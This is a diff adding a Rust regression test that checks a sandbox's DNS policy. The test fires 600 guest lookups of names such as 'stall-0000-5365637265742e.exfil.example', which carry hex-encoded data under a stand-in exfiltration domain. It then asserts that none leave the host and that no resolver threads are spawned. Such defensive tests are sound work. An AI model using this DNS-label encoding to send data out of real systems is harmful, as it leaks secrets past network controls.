@@ -375,3 +375,36 @@ fn stalled_lookups_time_out_and_the_stuck_ones_stay_counted() {
     });
     assert_eq!(settled["vms"]["a"]["dns_lookups_in_flight"], 0, "{settled}");
 }
+
+#[test]
+fn the_measured_attack_sends_no_name_out_and_adds_no_thread() {
+    // 600 lookups of guest-chosen names, a resolver that never answers, a policy that
+    // allows nothing outside: once 2,408 queries left the host and threads went 3 → 515.
+    let _serial = serial();
+    let script = Script::new(&[]);
+    let h = Harness::with_config(config(&script, &[]));
+    let _release = Release(Arc::clone(&script));
+    let mut a = h.guest(Transport::InProcess);
+    let baseline = threads();
+    let ids: Vec<u64> = (0..600)
+        .map(|i| {
+            let name = format!("stall-{i:04}-5365637265742e.exfil.example");
+            a.send_call("dns.lookup", json!({"host": name}), b"", false)
+        })
+        .collect();
+    for (id, outcome) in replies(&mut a, &ids) {
+        let error = outcome.expect_err("nothing resolves");
+        assert_eq!(error["code"], "ENOTFOUND", "lookup {id}: {error}");
+    }
+    assert!(
+        script.queries().is_empty(),
+        "{} queries",
+        script.queries().len()
+    );
+    let stats = h.stats();
+    assert_eq!(stats["dns_refused_policy"], 600, "{stats}");
+    assert_eq!(stats["dns_pool"]["threads"], 0, "{stats}");
+    if let (Some(before), Some(now)) = (baseline, threads()) {
+        assert!(now <= before, "threads {before} → {now}");
+    }
+}
